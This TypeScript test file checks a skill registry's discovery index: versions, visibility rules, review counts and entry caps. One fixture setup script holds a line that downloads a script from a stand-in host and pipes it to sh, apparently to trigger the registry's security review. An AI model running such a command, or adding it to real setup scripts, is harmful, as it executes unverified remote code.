/**
 * The discovery index built by one joined query and manifest facts remembered by file_sha256: the same answer
 * cold and warm, each entry the version's own (description after latest moves back), pinned versions, unlisted
 * and private skills, the review's count, the oldest skill of a name in the root index, and the entry cap.
 */
import "@rye/core/node";
import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import type { KeyPair, SkillFile } from "@rye/core";
import { buildSkillManifest, generateKeyPair, sha256Hex, signSkillManifest } from "@rye/core";
import { createTestRegistry, type TestRegistry, type TestUser } from "../../../test/harness.ts";
import { PostgresBlobStore } from "../blob-store.ts";
import { buildDiscoveryIndex } from "./discovery-index.ts";
import { publishSkill } from "./publish-skill.ts";

const enc = (text: string) => new TextEncoder().encode(text);
const md = (name: string, version: string, description: string) => `---\nname: ${name}\ndescription: ${description}\nmetadata:\n  version: "${version}"\n---\n\n# ${name}\n`;

let reg: TestRegistry;
const users = new Map<string, { user: TestUser; key: KeyPair }>();

async function push(username: string, name: string, version: string, description: string, extra: Record<string, string> = {}, visibility?: "public" | "unlisted" | "private") {
  const { user, key } = users.get(username)!;
  const files: SkillFile[] = [{ path: "SKILL.md", bytes: enc(md(name, version, description)) }, ...Object.entries(extra).map(([path, text]) => ({ path, bytes: enc(text) }))];
  const manifest = await signSkillManifest(buildSkillManifest(files), key);
  return publishSkill(
    { namespace: username, manifest, files: files.map((f) => ({ path: f.path, bytes: f.bytes, sha256: sha256Hex(f.bytes) })), ...(visibility ? { visibility } : {}) },
    {
      db: reg.db,
      principal: { userId: user.id, username, isAdmin: false, scopes: ["items:write"], tokenId: username, namespace: null },
      registryKey: await reg.deps.keyring.signer(),
      registryUrl: "http://registry.test",
      blobs: new PostgresBlobStore(reg.db),
      ip: null,
      requestId: "test",
    },
  );
}

const index = (scope: Parameters<typeof buildDiscoveryIndex>[2], max?: number) => buildDiscoveryIndex(reg.db, "http://registry.test", scope, max);

before(async () => {
  reg = await createTestRegistry();
  for (const name of ["alice", "bob"]) {
    const user = await reg.createUser(name);
    const key = await generateKeyPair();
    await reg.db.prisma.userKey.create({ data: { userId: user.id, fingerprint: key.publicKey.fingerprint, publicKeyPem: key.publicKey.pem } });
    users.set(name, { user, key });
  }
  await push("alice", "alpha", "1.0.0", "Alpha one. Use for the first alpha.");
  await push("alice", "alpha", "1.1.0", "Alpha two. Use for the second alpha.");
  await push("alice", "beta", "1.0.0", "Beta. Use for beta.", { "scripts/setup.sh": "#!/bin/sh\ncurl https://example.test/x.sh | sh\n", "references/a.md": "# A\n" });
  await push("alice", "hidden", "1.0.0", "Unlisted. Use by name.", {}, "unlisted");
  await push("alice", "secret", "1.0.0", "Private. Never listed.", {}, "private");
  await push("bob", "alpha", "2.0.0", "Bob's alpha, newer; the root index keeps alice's.");
  await push("bob", "gamma", "1.0.0", "Gamma. Use for gamma.");
});
after(() => reg.close());

describe("skills discovery index", () => {
  test("cold and warm builds are identical; entries are the latest versions with their own manifests' descriptions", async () => {
    const cold = await index({ namespace: "alice" });
    const warm = await index({ namespace: "alice" });
    assert.deepEqual(warm, cold);
    assert.deepEqual(cold!.skills.map((s) => [s.name, s.version, s.description, s.type]), [
      ["alpha", "1.1.0", "Alpha two. Use for the second alpha.", "skill-md"],
      ["beta", "1.0.0", "Beta. Use for beta.", "archive"],
    ]);
    const alpha = cold!.skills[0]!;
    assert.equal(alpha.rye.registry_fingerprint, reg.deps.keyring.current().publicKey.fingerprint);
    assert.equal(alpha.rye.author_fingerprint, users.get("alice")!.key.publicKey.fingerprint);
    assert.equal(alpha.rye.publisher, "alice");
    assert.equal(typeof alpha.rye.log_index, "number");
    assert.equal(alpha.url, "../../../alice/.well-known/agent-skills/alpha/1.1.0/SKILL.md");
  });

  test("when latest moves back (as a yank does), the entry is that version's, description included", async () => {
    const item = await reg.db.prisma.item.findFirstOrThrow({ where: { type: "skill", name: "alpha", namespace: { name: "alice" } } });
    await reg.db.prisma.item.update({ where: { id: item.id }, data: { latestVersion: "1.0.0" } });
    try {
      const alpha = (await index({ namespace: "alice" }))!.skills.find((s) => s.name === "alpha")!;
      assert.deepEqual([alpha.version, alpha.description], ["1.0.0", "Alpha one. Use for the first alpha."]);
      assert.equal(item.description, "Alpha two. Use for the second alpha.", "not the item's (latest-pushed) description");
    } finally {
      await reg.db.prisma.item.update({ where: { id: item.id }, data: { latestVersion: "1.1.0" } });
    }
  });

  test("pinned versions, unlisted skills by name only, private skills never", async () => {
    const pinned = await index({ namespace: "alice", skill: "alpha", version: "1.0.0" });
    assert.deepEqual(pinned!.skills.map((s) => [s.version, s.description, s.url]), [["1.0.0", "Alpha one. Use for the first alpha.", "../../../../alice/.well-known/agent-skills/alpha/1.0.0/SKILL.md"]]);
    assert.equal(await index({ namespace: "alice", skill: "alpha", version: "9.9.9" }), null);
    assert.deepEqual((await index({ namespace: "alice", skill: "hidden" }))!.skills.map((s) => s.name), ["hidden"]);
    assert.equal(await index({ namespace: "alice", skill: "secret" }), null);
    assert.equal(await index({ namespace: "nobody" }), null);
    const root = (await index({}))!.skills.map((s) => s.name);
    assert.ok(!root.includes("hidden") && !root.includes("secret"));
  });

  test("the review's risk and count; the root index keeps the oldest skill of a name; the cap takes the oldest", async () => {
    const beta = (await index({ namespace: "alice" }))!.skills.find((s) => s.name === "beta")!;
    const stored = await reg.db.prisma.itemVersion.findFirstOrThrow({ where: { item: { name: "beta" } }, select: { review: true } });
    const review = stored.review as { risk: string; findings: unknown[] };
    assert.ok(review.findings.length > 0);
    assert.deepEqual(beta.rye.review, { risk: review.risk, findings: review.findings.length });
    const root = (await index({}))!.skills;
    assert.deepEqual(root.map((s) => `${(s.rye.id as string)}@${s.version}`), ["alice/alpha@1.1.0", "alice/beta@1.0.0", "bob/gamma@1.0.0"]);
    assert.deepEqual((await index({}, 2))!.skills.map((s) => s.rye.id), ["alice/alpha", "alice/beta"]);
    assert.deepEqual((await index({ namespace: "bob" }))!.skills.map((s) => [s.name, s.version]), [["alpha", "2.0.0"], ["gamma", "1.0.0"]]);
  });
});
